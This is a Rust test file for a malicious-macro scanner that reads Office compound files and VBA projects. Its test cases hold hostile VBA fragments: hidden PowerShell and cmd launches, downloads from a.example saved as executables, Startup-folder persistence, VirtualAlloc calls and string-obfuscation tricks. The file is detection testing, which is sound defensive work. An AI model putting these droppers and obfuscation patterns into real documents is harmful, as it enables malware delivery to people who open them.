//! Compound files and the VBA in them: read whole, read damaged, and judged.

use crate::common::office::{Compound, Module, ModuleKind, vba_project};
use crate::common::ooxml::{Member, zip};
use crate::common::ovba::{compress, dir, project_stream, stored_source};
use sekisho::finding::{Category, Severity};
use sekisho::formats::cfb::CompoundFile;
use sekisho::knowledge::Knowledge;
use sekisho::limits::Limits;
use sekisho::scan::{Input, Report, Stop, scan};
use sekisho::vba::compress::decompress;
use sekisho::vba::project::{self, Project};

const HELLO: Module<'_> = ("Module1", "Sub Hello()\n    MsgBox \"Hello\"\nEnd Sub\n", ModuleKind::Standard);
const DOCUMENT: Module<'_> = ("ThisDocument", "Private Sub Document_Open()\nEnd Sub\n", ModuleKind::Document);

fn projects(bytes: &[u8]) -> Vec<Project> {
    project::projects(&CompoundFile::open(bytes), u64::MAX)
}

#[test]
fn what_was_compressed_comes_back() {
    let mut random = fastrand::Rng::with_seed(7);
    for length in [0, 1, 2, 3, 15, 16, 17, 100, 4095, 4096, 4097, 8192, 20_000] {
        for letters in [1, 2, 20, 256] {
            let bytes: Vec<u8> = (0..length).map(|_| random.u16(0..letters) as u8).collect();
            let back = decompress(&compress(&bytes), usize::MAX).unwrap_or_default().bytes;
            // A raw chunk is filled up with zeros, so its length is not kept.
            let is_filled_up = back.get(bytes.len()..).is_some_and(|rest| rest.iter().all(|byte| *byte == 0));
            assert!(back.starts_with(&bytes) && is_filled_up, "{length} octets of {letters} letters");
        }
    }
}

#[test]
fn modules_are_read_in_order_with_their_source() {
    let read = projects(&vba_project(&[DOCUMENT, HELLO]));
    let [project] = &read[..] else { panic!("{read:?}") };
    assert_eq!(project.path, "VBA");
    let names: Vec<&str> = project.modules.iter().map(|module| module.name.as_str()).collect();
    assert_eq!(names, ["ThisDocument", "Module1"]);
    assert!(project.modules.iter().all(|module| module.is_listed && !module.is_cut));
    assert!(project.modules[1].source.contains("MsgBox \"Hello\""));
}

#[test]
fn sectors_of_both_sizes_and_any_depth() {
    for file in [Compound::new(), Compound::version_4()] {
        let bytes = file.project("/ObjectPool/_1/Macros", &[HELLO]).stream("/Big", &vec![7; 200_000]).finish();
        assert_eq!(projects(&bytes)[0].path, "ObjectPool/_1/Macros/VBA");
    }
}

// What the code can do ------------------------------------------------------------------------

/// Scans a vbaProject.bin with these modules; gives the ids of the findings.
fn findings(modules: &[Module<'_>]) -> Vec<String> {
    report(vba_project(modules)).findings.iter().map(|finding| finding.id.to_string()).collect()
}

fn report(bytes: Vec<u8>) -> Report {
    scan(Input::file(bytes, "file"), &Limits::default(), &Knowledge::default(), &Stop::default())
}

/// What a module with `source` is found to do, beside having macros.
fn check(source: &str, expected: &[&str]) {
    let mut found = findings(&[("Module1", source, ModuleKind::Standard)]);
    found.retain(|id| id != "vba-macros");
    found.sort();
    found.dedup();
    assert_eq!(found, expected, "{source}");
}

/// The same for the body of a procedure that nothing starts.
fn check_body(body: &str, expected: &[&str]) {
    check(&format!("Sub Work(Optional given)\n{body}\nEnd Sub\n"), expected);
}

#[test]
fn calls_are_judged_by_what_they_do() {
    let cases: &[(&str, &[&str])] = &[
        // Starting programs.
        ("Shell \"calc.exe\", 1", &["vba-run-program"]),
        ("x = Shell(path, vbHide)", &["vba-run-program"]),
        ("VBA.Interaction.Shell path", &["vba-run-program"]),
        ("CreateObject(\"WScript.Shell\").Run path, 0, True", &["vba-run-program"]),
        ("Set w = CreateObject(\"WScript.Shell\")\nw.Exec path", &["vba-run-program"]),
        ("Dim w As New WshShell\nw.Run path", &["vba-run-program"]),
        ("With CreateObject(\"WScript.Shell\")\n.Run path\nEnd With", &["vba-run-program"]),
        ("GetObject(\"winmgmts:Win32_Process\").Create path, Null, x, y", &["vba-run-program"]),
        (
            "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet p = w.Get(\"Win32_Process\")\np.Create path",
            &["vba-run-program"],
        ),
        ("CreateObject(\"Shell.Application\").ShellExecute path, args", &["vba-run-program"]),
        (
            "GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run path",
            &["vba-hidden-object", "vba-run-program"],
        ),
        // A command that goes to an interpreter.
        ("Shell \"powershell -w hidden -e abc\"", &["vba-run-interpreter"]),
        ("Shell \"C:\\Windows\\System32\\CMD.EXE /c dir\"", &["vba-run-interpreter"]),
        ("Shell Environ(\"COMSPEC\") & \" /c \" & given", &["vba-run-interpreter"]),
        ("Shell \"c^m^d /c dir\"", &["vba-run-interpreter"]),
        ("s = \"pow\"\ns = s & \"ershell \"\ns = s + \"-e x\"\nShell s", &["vba-run-interpreter"]),
        ("Shell StrReverse(\"x e- llehsrewop\")", &["vba-run-interpreter"]),
        ("Shell Replace(\"poZZwerZZshell -e x\", \"ZZ\", \"\")", &["vba-run-interpreter"]),
        ("Shell Chr(112) & ChrW(111) & Chr$(119) & \"ershell -e x\"", &["vba-run-interpreter"]),
        ("Shell Join(Array(\"cm\", \"d /c\", \" dir\"), \"\")", &["vba-run-interpreter"]),
        ("a = Split(\"ell;-e x;powersh\", \";\")\nShell a(2) & a(0) & \" \" & a(1)", &["vba-run-interpreter"]),
        (
            "For i = 1 To 9\ns = s & Chr(Asc(Mid(\"qpxfstifm\", i, 1)) - 1)\nNext\nShell s & \"l -e x\"",
            &["vba-run-interpreter"],
        ),
        (
            "For i = 9 To 1 Step -1\ns = s & Mid(\"ehsrewop\", i, 1)\nNext i\nShell s & \"ll -e x\"",
            &["vba-run-interpreter"],
        ),
        (
            "Dim p(2)\np(0) = \"mshta \"\np(1) = \"http://\"\np(2) = \"a.example\"\nShell Join(p, \"\")",
            &["vba-download", "vba-run-interpreter"],
        ),
        ("CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"cmd /c dir\"", &["vba-run-interpreter"]),
        (
            "a = Array(112, 111, 119, 101, 114)\nFor Each c In a\ns = s & Chr(c)\nNext\nShell s & \"shell -e x\"",
            &["vba-run-interpreter"],
        ),
        (
            "h = \"636d64202f63\"\ni = 1\nDo While i < Len(h)\ns = s & Chr(CByte(\"&H\" & Mid(h, i, 2)))\ni = i + 2\nLoop\nShell s",
            &["vba-run-interpreter"],
        ),
        (
            "a = Array(55, 57, 48)\nFor i = LBound(a) To UBound(a)\ns = s & Chr(a(i) Xor 84)\nNext\nShell s & \" /c x\"",
            &["vba-run-interpreter"],
        ),
        ("GetObject(Sheet1.Range(\"A1\")).Create path, a, b, c", &["vba-run-program"]),
        ("CreateObject(\"Shell.Application\").Open path", &["vba-run-program"]),
        (
            "GetObject(\"new:C08AFD90-F2A1-11D1-8455-00A0C91F3880\").Document.Application.ShellExecute path",
            &["vba-hidden-object", "vba-run-program"],
        ),
        // Names that are hidden.
        (
            "Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\no.Run path",
            &["vba-hidden-object", "vba-run-program"],
        ),
        ("Set o = CreateObject(Sheet1.Range(\"A1\"))", &["vba-hidden-object"]),
        ("Set o = CreateObject(Sheet1.Range(\"A1\"))\no.Open \"GET\", url", &["vba-hidden-object", "vba-web-request"]),
        ("CallByName o, Sheet1.Range(\"A1\"), VbMethod", &["vba-dynamic-call"]),
        ("Application.Run Sheet1.Range(\"A1\") & x", &["vba-dynamic-call"]),
        ("ExecuteExcel4Macro \"EXEC(\"\"calc\"\")\"", &["xlm-run-program"]),
        // The network.
        (
            "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", url, False\nh.Send\nb = h.responseBody\n\
             Set s = CreateObject(\"ADODB.Stream\")\ns.Write b\ns.SaveToFile \"x.exe\", 2",
            &["vba-download", "vba-drop-file"],
        ),
        (
            "Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", url\nh.Send\nMsgBox h.responseText",
            &["vba-web-request"],
        ),
        ("GetObject \"script:http://a.example/x.sct\"", &["vba-download"]),
        // Files.
        ("Open Environ(\"TEMP\") & \"\\x.vbs\" For Output As #1\nPrint #1, s\nClose #1", &["vba-drop-file"]),
        ("Open ThisWorkbook.Path & \"\\log.txt\" For Append As #1\nPrint #1, Now\nClose #1", &["vba-write-file"]),
        (
            "FileCopy a, Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.txt\"",
            &["vba-drop-file"],
        ),
        (
            "CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\Users\\Public\\a.hta\").Write s",
            &["vba-drop-file"],
        ),
        ("Name \"a.txt\" As \"a.exe\"", &["vba-drop-file"]),
        // Protection.
        ("ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString s", &["vba-tamper"]),
        ("CreateObject(\"WScript.Shell\").RegWrite key, 1, \"REG_DWORD\"", &["vba-tamper"]),
        ("Application.AutomationSecurity = msoAutomationSecurityLow", &["vba-tamper"]),
    ];
    for (body, expected) in cases {
        check_body(body, expected);
    }
}

#[test]
fn what_honest_code_does_stays_quiet() {
    let cases = [
        "' Shell \"powershell -e x\"",
        "Rem Shell \"cmd\"",
        "MsgBox \"Shell powershell -e x CreateObject(WScript.Shell).Run\"",
        "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"Run\", \"Shell\"",
        "Set x = CreateObject(\"Excel.Application\")\nx.Workbooks.Open ThisWorkbook.Path & \"\\a.xls\"",
        "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=SQLOLEDB;Server=\" & given",
        "Set o = CreateObject(given)",
        "Set x = GetObject(, \"Excel.Application\")\nx.Run \"Recalc\"",
        "Set w = GetObject(Sheet1.Range(\"A1\"))\nw.Application.Run \"Recalc\"",
        "Set x = CreateObject(\"Excel.Application\")\nx.Run \"Book.xls!Main\"",
        "Set r = New RegExp\nr.Pattern = \"cmd /c\"",
        "Application.Run \"Recalc\"",
        "Application.Run \"'\" & ThisWorkbook.Name & \"'!Module1.Recalc\"",
        "Application.Run given",
        "CallByName(o, given, VbGet) = 1",
        "x = CallByName(o, Sheet1.Range(\"A1\"), VbGet)",
        "Application.AutomationSecurity = msoAutomationSecurityForceDisable",
        "Application.DisplayAlerts = False\nActiveWorkbook.SaveAs Filename:=\"C:\\out\\report.xls\"",
        "Open ThisWorkbook.Path & \"\\a.csv\" For Input As #1\nLine Input #1, s\nClose #1",
        "Open f For Binary Access Read As #1\nGet #1, , b\nClose #1",
        "Kill ThisWorkbook.Path & \"\\a.tmp\"",
        "ActiveWorkbook.FollowHyperlink \"https://intranet.example/\"",
        "CreateObject(\"Shell.Application\").ShellExecute \"https://intranet.example/help\"",
        "Shell \"explorer.exe C:\\Reports\"",
        "Set wmi = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each p In wmi.ExecQuery(\"Select * from Win32_Printer\")\nNext",
        "x.Run = 5\ny = shape.Create",
        "Worksheets(\"Shell\").Range(\"Run\").Value = \"Open\"",
    ];
    for body in cases {
        check_body(body, &[]);
    }
    check(
        "Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\nDeclare Function GetTickCount Lib \"kernel32.dll\" () As Long\n",
        &[],
    );
}

#[test]
fn declared_functions_are_judged_by_what_they_are() {
    check(
        "Private Declare PtrSafe Function f Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal p As LongPtr, ByVal u$, ByVal n$, ByVal r&, ByVal c&) As Long\n\
         Sub Fetch()\nf 0, \"http://a.example/x\", \"x.txt\", 0, 0\nEnd Sub\n",
        &["vba-download"],
    );
    check(
        "Declare Function z Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a&, ByVal b&, ByVal c&, ByVal d&) As Long\n",
        &["vba-native-call"],
    );
    check(
        "Declare Function Go Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal h&, ByVal o$, ByVal f$, ByVal p$, ByVal d$, ByVal s&) As Long\n\
         Sub Help()\nGo 0, \"open\", \"https://intranet.example/\", \"\", \"\", 1\nEnd Sub\nSub Bad()\nGo 0, \"open\", \"rundll32.exe\", \"x.dll,Start\", \"\", 0\nEnd Sub\n",
        &["vba-run-interpreter"],
    );
}

#[test]
fn a_start_counts_if_something_of_note_is_reached_from_it() {
    let cases: &[(&str, &[&str])] = &[
        ("Sub AutoOpen()\nShell p\nEnd Sub", &["vba-autoexec", "vba-run-program"]),
        ("Sub _\nautoopen( _\n)\nShell p\nEnd Sub", &["vba-autoexec", "vba-run-program"]),
        (
            "Sub Auto_Open()\na\nEnd Sub\nSub a()\nb\nEnd Sub\nFunction b()\nShell p\nEnd Function",
            &["vba-autoexec", "vba-run-program"],
        ),
        (
            "Sub Workbook_Open()\nApplication.OnTime Now, \"Later\"\nEnd Sub\nSub Later()\nShell p\nEnd Sub",
            &["vba-autoexec", "vba-run-program"],
        ),
        (
            "Sub Workbook_Open()\nApplication.Run \"La\" & \"ter\"\nEnd Sub\nSub Later()\nShell p\nEnd Sub",
            &["vba-autoexec", "vba-run-program"],
        ),
        (
            "Sub Workbook_Open()\nRange(\"A1\").Select\nEnd Sub\nSub Button1_Click()\nShell p\nEnd Sub",
            &["vba-run-program", "vba-startup"],
        ),
        ("Sub Workbook_Open()\nMsgBox \"Hello\"\nEnd Sub", &["vba-startup"]),
        ("Sub Button1_Click()\nMsgBox \"Hello\"\nEnd Sub", &[]),
        ("' Sub AutoOpen()\nSub x()\ns = \"Sub AutoOpen()\"\nEnd Sub", &[]),
        ("Sub AutoOpenReport()\nEnd Sub\nSub MyAutoOpen()\nEnd Sub", &[]),
    ];
    for (source, expected) in cases {
        check(source, expected);
    }
}

#[test]
fn events_of_controls_count_in_documents_and_not_in_forms() {
    let source = "Private Sub Ink_Painted(ByVal h As Long)\nShell p\nEnd Sub\n";
    assert!(findings(&[("ThisDocument", source, ModuleKind::Document)]).contains(&"vba-event".to_owned()));
    assert!(!findings(&[("UserForm1", source, ModuleKind::Form)]).contains(&"vba-event".to_owned()));
    let form = ("UserForm1", "Private Sub UserForm_Initialize()\nShell p\nEnd Sub\n", ModuleKind::Form);
    let opener = ("ThisWorkbook", "Sub Workbook_Open()\nUserForm1.Show\nEnd Sub\n", ModuleKind::Document);
    assert!(findings(&[form, opener]).contains(&"vba-autoexec".to_owned()));
}

#[test]
fn results_and_arguments_travel_between_procedures() {
    check(
        "Const A = \"power\"\nDim shared\nFunction Tail()\nTail = \"shell -e \" & \"x\"\nEnd Function\n\
         Function Twice(s, n)\nTwice = Replace(s, n, \"\")\nEnd Function\nSub Go()\nStart A & Tail()\nStart Twice(\"c#m#d /c dir\", \"#\")\nEnd Sub\n\
         Sub Start(c)\nShell c\nEnd Sub\n",
        &["vba-run-interpreter"],
    );
    // The class comes from callers who name it: nothing is hidden.
    check(
        "Sub Go()\nSet a = Make(\"Scripting.Dictionary\")\nEnd Sub\nFunction Make(id)\nSet Make = CreateObject(id)\nEnd Function\n",
        &[],
    );
}

#[test]
fn what_is_found_has_place_evidence_and_indicators() {
    let report = report(vba_project(&[(
        "Module1",
        "Sub AutoOpen()\n\nShell \"powershell -c iwr http://a.example/x.exe\"\nEnd Sub",
        ModuleKind::Standard,
    )]));
    let run = report.findings.iter().find(|finding| finding.id.as_str() == "vba-run-interpreter").unwrap();
    assert_eq!(
        (run.location.as_str(), run.evidence.as_str()),
        ("Module1:3", "shell powershell -c iwr http://a.example/x.exe")
    );
    let values: Vec<&str> = report.indicators.iter().map(|indicator| indicator.value.as_str()).collect();
    assert_eq!(values, ["powershell -c iwr http://a.example/x.exe", "http://a.example/x.exe"]);
}

#[test]
fn code_that_grows_without_bounds_costs_a_bounded_time() {
    let start = std::time::Instant::now();
    for body in [
        "s = \"x\"\nDo\ns = s & s\nLoop",
        "For i = 1 To 99999\nFor j = 1 To 99999\nFor k = 1 To 99999\ns = s & \"x\"\nNext\nNext\nNext",
        "a = Array(1)\nFor i = 1 To 20000\na = Array(a, a)\nNext",
        "Do While True\nx = x + 1\nLoop",
        "s = String(200000, \"x\")\nDo While 1\nIf s = t Then Shell s\nLoop",
        "s = Space(60000)\nDo\nt = Replace(s, \" \", s)\nu = Join(Split(s, \" \"), s)\nLoop While 1",
        "Work Work(Work(given))",
        "s = \"x\"\nDo While 1\ns = s & \"x\"\nWork s\nLoop",
    ] {
        findings(&[(
            "Module1",
            &format!("Function Work(given)\n{body}\nEnd Function\nSub AutoOpen()\nWork 1\nEnd Sub"),
            ModuleKind::Standard,
        )]);
    }
    let nested = format!("Sub AutoOpen()\nShell {}p{}\nEnd Sub", "(".repeat(50_000), ")".repeat(50_000));
    let called = format!("Sub AutoOpen()\nShell {}p\nEnd Sub", "f(".repeat(50_000));
    let dotted = format!("Sub AutoOpen()\nShell x{}\nEnd Sub", ".y".repeat(50_000));
    let many = "Sub AutoOpen()\nAutoOpen AutoOpen AutoOpen\nShell p\nEnd Sub\n".repeat(5000);
    let lines = "x = _\n".repeat(50_000);
    for source in [nested, called, dotted, many, lines] {
        let found = findings(&[("Module1", &source, ModuleKind::Standard)]);
        assert!(!found.contains(&"scan-fault".to_owned()));
    }
    assert!(start.elapsed() < std::time::Duration::from_secs(30), "{:?}", start.elapsed());
}

#[test]
fn a_call_is_seen_however_much_stands_before_it() {
    let burn = "Sub Burn()\nFor i = 1 To 99999\nFor j = 1 To 99999\ns = s & String(9000, \"x\")\nNext\nNext\nEnd Sub\n";
    let long = "s = s & \"0123456789012345678901234567890123456789\"\nt = s\n".repeat(40_000);
    let last = "Sub AutoOpen()\nShell \"power\" & \"shell -e x\"\nEnd Sub\n";
    let chain = format!("Sub Chain()\ns = \"\"{}\nEnd Sub\n", " & \"0123456789\"".repeat(100_000));
    for before in [burn.repeat(50), format!("Sub Long()\n{long}End Sub\n"), chain] {
        let start = std::time::Instant::now();
        let found = findings(&[("Module1", &format!("{before}{last}"), ModuleKind::Standard)]);
        assert!(found.contains(&"vba-run-interpreter".to_owned()), "{found:?}");
        assert!(start.elapsed() < std::time::Duration::from_secs(10), "{:?}", start.elapsed());
    }
}

/// Honest workbooks and templates do a lot on opening; a button beside that starts a program.
#[test]
fn honest_starts_stay_harmless() {
    let bodies = [
        "Application.ScreenUpdating = False\nWorksheets(\"Input\").Protect Password:=\"x\", UserInterfaceOnly:=True",
        "Application.OnKey \"^s\", \"SaveAll\"\nApplication.OnKey \"{F1}\", \"\"\nApplication.OnTime Now + TimeValue(\"00:01:00\"), \"Tick\"",
        "Set b = Application.CommandBars(\"Cell\").Controls.Add\nb.OnAction = \"'\" & ThisWorkbook.Name & \"'!Tick\"",
        "u = CreateObject(\"WScript.Network\").UserName\nIf Environ(\"USERNAME\") <> u Then MsgBox u",
        "Set c = New ADODB.Connection\nc.Open \"Provider=SQLOLEDB;Data Source=srv\"\nSet r = c.Execute(\"select * from cmd\")",
        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nIf f.FileExists(p) Then Set t = f.OpenTextFile(p, 1)",
        "ActiveDocument.AttachedTemplate = \"\\\\server\\templates\\letter.dot\"\nUserForm1.Show",
        "Set o = CreateObject(\"Outlook.Application\")\nSet m = o.CreateItem(0)\nm.To = \"a@b.example\"\nm.Display",
        "Application.Run \"'\" & ThisWorkbook.Path & \"\\addin.xla'!Main\"",
        "x = CreateObject(\"WScript.Shell\").RegRead(\"HKCU\\Software\\Acme\\Path\")\nSaveSetting \"Acme\", \"a\", \"b\", x",
        "ThisWorkbook.SaveCopyAs ThisWorkbook.Path & \"\\backup.xls\"\nKill ThisWorkbook.Path & \"\\old.xls\"",
        "With CreateObject(\"Shell.Application\").BrowseForFolder(0, \"Folder\", 0)\np = .Self.Path\nEnd With",
        "ActiveWorkbook.RefreshAll\nDoEvents\nCalculate\nApplication.Calculation = xlCalculationManual",
        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://rates.example/eur.json\", False\nh.send\nRange(\"A1\") = h.responseText",
    ];
    for body in bodies {
        let source = format!(
            "Private Sub Workbook_Open()\n{body}\nEnd Sub\nSub Tick()\nCalculate\nEnd Sub\n\
             Sub Button1_Click()\nShell \"notepad.exe\"\nEnd Sub\n"
        );
        let found = findings(&[("ThisWorkbook", &source, ModuleKind::Document)]);
        assert!(
            found.contains(&"vba-startup".to_owned()) && !found.contains(&"vba-autoexec".to_owned()),
            "{body}: {found:?}"
        );
        for id in ["vba-obfuscated", "vba-hidden-object", "vba-download", "vba-dynamic-call", "vba-drop-file"] {
            assert!(!found.contains(&id.to_owned()), "{id}: {body}");
        }
    }
}

/// One line of work for each way that droppers start what they drop.
#[test]
fn droppers_of_many_kinds_are_seen() {
    let sources = [
        "Private Declare PtrSafe Function d Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal p&, ByVal u$, ByVal f$, ByVal r&, ByVal c&) As Long\n\
         Sub Workbook_Open()\nd 0, Sheet1.Range(\"A1\"), p, 0, 0\nEnd Sub",
        "Sub Document_Open()\nOpen \"C:\\Users\\Public\\a.hta\" For Output As #1\nPrint #1, s\nClose #1\nShell \"explorer C:\\Users\\Public\\a.hta\"\nEnd Sub",
        "Sub AutoOpen()\nSet p = Make(UserForm1.Label1.Tag)\np.Create UserForm1.Label2.Tag, a, b, c\nEnd Sub\nFunction Make(n)\nSet Make = CreateObject(n & \"\")\nEnd Function",
        "Sub Document_Close()\nSet h = CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", u, False\nh.send\nSet s = CreateObject(\"ADODB.Stream\")\n\
         s.Write h.responseBody\ns.SaveToFile p, 2\nCreateObject(\"Shell.Application\").Open (p)\nEnd Sub",
        "Sub AutoOpen()\nCreateObject(Un(\"4144554645420558637366\")).Run Un(\"00\"), 0\nEnd Sub\n\
         Function Un(h)\nFor i = 1 To Len(h) Step 2\nUn = Un & Chr(Val(\"&H\" & Mid(h, i, 2)) Xor 22)\nNext\nEnd Function",
        "Sub Auto_Close()\nDDEInitiate \"cmd\", \"/c calc\"\nShell.Run\nEnd Sub\nSub x()\nEnd Sub",
        "Sub Document_Open()\nSet x = CreateObject(\"MSXML2.DOMDocument\")\nx.Load \"http://a.example/s.xsl\"\nx.transformNode x\nEnd Sub",
        "Declare PtrSafe Function a Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal b&, ByVal c&, ByVal d&, ByVal e&) As LongPtr\nSub Document_Open()\nx = a(0, 9, 4096, 64)\nEnd Sub",
        "Sub AutoOpen()\nSet t = CreateObject(\"Schedule.Service\")\nt.Connect\nt.GetFolder(\"\\\").RegisterTaskDefinition \"a\", d, 6, \"\", \"\", 3\nEnd Sub",
        "Sub AutoOpen()\nApplication.Run UserForm1.Tag & x\nEnd Sub\nSub Later()\nShell p\nEnd Sub",
        "Sub Workbook_Open()\nGetObject(\"new:13709620-C279-11CE-A49E-444553540000\").ShellExecute p\nEnd Sub",
        "Sub AutoOpen()\nWith New Shell32.Shell\n.ShellExecute p, q, \"\", \"open\", 0\nEnd With\nEnd Sub",
        "Sub AutoNew()\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s\nEnd Sub",
        "Sub Workbook_Open()\nExecuteExcel4Macro \"CALL(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\")\"\nEnd Sub",
    ];
    for source in sources {
        let report = report(vba_project(&[("Module1", source, ModuleKind::Standard)]));
        let capable =
            report.findings.iter().any(|f| f.id.category == Category::Capability && f.id.severity >= Severity::Medium);
        let starts = report.findings.iter().any(|f| f.id.as_str() == "vba-autoexec");
        assert!(capable && starts, "{source}\n{:?}", report.findings);
    }
    // Word runs MAIN of a module called AutoOpen.
    assert!(
        findings(&[("AutoOpen", "Sub MAIN()\nShell p\nEnd Sub\n", ModuleKind::Standard)])
            .contains(&"vba-autoexec".to_owned())
    );
}

#[test]
fn who_signed_is_told_and_makes_nothing_better() {
    let text = include_str!("common/signature.base64");
    let signature = data_encoding::BASE64_MIME.decode(text.as_bytes()).unwrap();
    let code = "Sub AutoOpen()\r\nShell \"powershell -c x\"\r\nEnd Sub\r\n";
    let project = vba_project(&[("ThisDocument", code, ModuleKind::Document)]);
    let members = [
        Member { name: "[Content_Types].xml", bytes: b"<Types/>".to_vec() },
        Member { name: "word/vbaProject.bin", bytes: project },
        Member { name: "word/vbaProjectSignatureAgile.bin", bytes: signature.clone() },
    ];
    let package = zip(&members);
    let binary = Compound::new()
        .project("/Macros", &[("ThisDocument", code, ModuleKind::Document)])
        .stream("/\u{5}DocumentSummaryInformation", &[&[0; 40][..], &signature].concat())
        .finish();
    for document in [package, binary] {
        let report = report(document);
        let signed: Vec<_> = report.findings.iter().filter(|finding| finding.id.as_str() == "vba-signed").collect();
        let [signed] = &signed[..] else { panic!("{:?}", report.findings) };
        assert!(signed.evidence.starts_with("CN=Macro Signer,O=Example KK,C=JP; certified by itself"), "{signed:?}");
        assert_eq!(sekisho::verdict::judge(&report).level, sekisho::verdict::Level::Malicious);
    }
}

// What the editor does not show -------------------------------------------------------------------

/// A project with this PROJECT stream whose `dir` lists one module, with the source in streams of these names.
fn project_of(list: &str, narrow: &[u8], wide: &str, streams: &[&str], code_page: u16) -> Vec<u8> {
    let listed = [(narrow.to_vec(), wide, ModuleKind::Standard)];
    let mut file = Compound::new()
        .stream("/PROJECT", list.as_bytes())
        .stream("/VBA/dir", &compress(&dir(code_page, &listed, 0)))
        .stream("/VBA/_VBA_PROJECT", b"\xCC\x61\xFF\xFF\x00\x00\x00");
    for (number, name) in streams.iter().enumerate() {
        let source = stored_source(name, &format!("Sub Hello{number}()\nMsgBox 1\nEnd Sub\n"), ModuleKind::Standard);
        file = file.stream(&format!("/VBA/{name}"), &compress(source.as_bytes()));
    }
    file.finish()
}

/// What is found to be concealed, apart from the rest.
fn concealed(bytes: Vec<u8>) -> Vec<String> {
    let ids = report(bytes).findings.into_iter().filter(|finding| finding.id.category == Category::Concealment);
    ids.map(|finding| finding.id.to_string()).collect()
}

#[test]
fn a_module_that_the_editor_does_not_list_is_hidden() {
    let hidden = |list: &str| concealed(project_of(list, b"Module1", "Module1", &["Module1"], 1252));
    assert_eq!(hidden("ID=\"{}\"\r\nDocument=ThisDocument/&H00000000\r\n"), ["vba-module-hidden"]);
    for honest in [
        &project_stream(&[("Module1", ModuleKind::Standard)]),
        &project_stream(&[("MODULE1", ModuleKind::Class)]),
        &project_stream(&[("Module1", ModuleKind::Document)]),
        &project_stream(&[("Module1", ModuleKind::Form)]),
        // Nothing is listed: damaged, or made by another program.
        "ID=\"{}\"\r\n",
        "",
    ] {
        assert!(hidden(honest).is_empty(), "{honest}");
    }
    // Without code, nothing is hidden; without the stream, nothing is known.
    let empty = vba_project(&[("Module1", "Option Explicit\n", ModuleKind::Standard), HELLO]);
    assert!(concealed(empty).is_empty());
}

#[test]
fn names_that_disagree_are_told_and_both_streams_are_read() {
    let list = project_stream(&[("Module1", ModuleKind::Standard)]);
    let bytes = project_of(&list, b"Module1", "Module2", &["Module1", "Module2"], 1252);
    let read = projects(&bytes);
    let sources: Vec<_> = read[0].modules.iter().map(|module| module.source.contains("MsgBox")).collect();
    assert_eq!(sources, [true, true], "{read:?}");
    assert_eq!(concealed(bytes), ["vba-names-differ"]);

    let japanese = encoding_rs::SHIFT_JIS.encode("集計").0.into_owned();
    let list = project_stream(&[("Other", ModuleKind::Standard)]);
    // In the code page; one that cannot hold it: the editor then lists what it could hold.
    let named = |narrow: &[u8], code_page| concealed(project_of(&list, narrow, "集計", &["集計"], code_page));
    assert_eq!(named(&japanese, 932), ["vba-module-hidden"]);
    assert!(!named(b"??", 1252).contains(&"vba-names-differ".to_owned()));
    let whole = Compound::new().project_in_code_page("", &[("集計", HELLO.1, ModuleKind::Standard)], 932).finish();
    assert!(concealed(whole).is_empty());
}

#[test]
fn a_protection_that_cannot_be_decoded_hides_the_project() {
    let list = project_stream(&[("Module1", ModuleKind::Standard)]);
    let with = |values: &str| {
        let list = list.replace("VersionCompatible32", &format!("{values}VersionCompatible32"));
        concealed(project_of(&list, b"Module1", "Module1", &["Module1"], 1252))
    };
    assert!(with("").is_empty());
    assert_eq!(with("CMG=\"\"\r\nDPB=\"\"\r\nGC=\"\"\r\n"), ["vba-project-hidden"]);
    // Locked for viewing, as add-ins are: seed 0, key 0, so that each octet is what the two before it add up to.
    let locked = with(&format!("CMG={}\r\nDPB={}\r\nGC={}\r\n", value(&[1, 0, 0, 0]), value(&[7; 29]), value(&[0])));
    assert_eq!(locked, ["vba-project-locked"]);
}

/// A value of the PROJECT stream, encrypted with zeros as seed and key ([MS-OVBA] 2.4.3.2).
fn value(data: &[u8]) -> String {
    let mut octets = vec![0_u8, 2, 0];
    let mut before = 0_u8;
    for octet in [&(data.len() as u32).to_le_bytes()[..], data].concat() {
        let last_but_one = octets[octets.len() - 2];
        octets.push(octet ^ last_but_one.wrapping_add(before));
        before = octet;
    }
    let digits: String = octets.iter().map(|octet| format!("{octet:02X}")).collect();
    format!("\"{digits}\"")
}
